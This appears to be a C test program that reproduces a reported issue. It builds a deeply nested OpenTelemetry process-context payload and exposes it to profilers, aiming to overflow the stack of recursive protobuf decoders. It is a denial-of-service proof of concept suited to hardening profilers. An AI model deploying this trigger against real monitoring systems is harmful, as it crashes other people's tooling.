/* A hostile OTEP 4719 process context (issue 10, case 1): the payload, under
 * the reader's 64 KiB cap, is one attribute whose value nests as deep as the
 * cap allows, which a recursive protobuf decoder follows until its stack
 * runs out. Defines otel_thread_ctx_v1 so that profilers read the context,
 * then burns CPU so that they sample it.
 * usage: deepctx array|kvlist|count SECONDS
 *   array   AnyValue{array_value{values{AnyValue{...}}}}, ~8,900 levels
 *   kvlist  AnyValue{kvlist_value{values{KeyValue{value{...}}}}}, ~5,900
 *   count   a flat array of ~32,000 empty AnyValues */
#include <stdio.h>
#include <stdlib.h>
#include "otel_ctx_writer.h"

__attribute__((visibility("default"), used)) __thread void *otel_thread_ctx_v1;

static uint8_t payload[65536];	/* the reader's cap */

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	char kind = !strcmp(mode, "array") ? 'a' : !strcmp(mode, "kvlist") ? 'k' :
		    !strcmp(mode, "count") ? 'n' : 0;
	struct timespec t0;
	size_t n, levels;
	double secs, ipu;

	if (argc < 3 || !kind) {
		fprintf(stderr, "usage: deepctx array|kvlist|count SECONDS\n");
		return 2;
	}
	secs = atof(argv[2]);
	n = otel_ctx_hostile(payload, sizeof(payload), kind, 0, &levels);
	if (!otel_ctx_map(payload + sizeof(payload) - n, n))
		return 1;
	/* The thread-context slot is written, as a writer's would be. */
	*(void *volatile *)&otel_thread_ctx_v1 = NULL;
	printf("deepctx: pid %d, %s, %zu levels in %zu bytes\n", getpid(), mode,
	       levels, n);
	fflush(stdout);
	ipu = calibrate_iters_per_us();
	clock_gettime(CLOCK_MONOTONIC, &t0);
	while (elapsed_s(&t0) < secs)
		spin_us(1000, ipu);
	return 0;
}
